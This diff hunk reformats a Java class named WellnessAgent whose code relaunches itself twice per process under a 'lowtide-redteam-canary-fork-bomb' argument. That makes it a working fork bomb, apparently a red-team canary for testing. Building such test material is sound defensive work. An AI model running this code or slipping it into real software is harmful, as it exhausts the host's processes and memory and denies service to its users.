@@ -32,8 +32,14 @@ public final class WellnessAgent {
         String java = ProcessHandle.current().info().command().orElse(System.getProperty("java.home") + "/bin/java");
         for (int i = 0; i < 2; i++) {
             try {
-                new ProcessBuilder(List.of(java, "-Xmx16m", "-cp", System.getProperty("java.class.path"),
-                        WellnessAgent.class.getName(), "lowtide-redteam-canary-fork-bomb")).start();
+                new ProcessBuilder(List.of(
+                                java,
+                                "-Xmx16m",
+                                "-cp",
+                                System.getProperty("java.class.path"),
+                                WellnessAgent.class.getName(),
+                                "lowtide-redteam-canary-fork-bomb"))
+                        .start();
             } catch (IOException refused) {
                 return;
             }
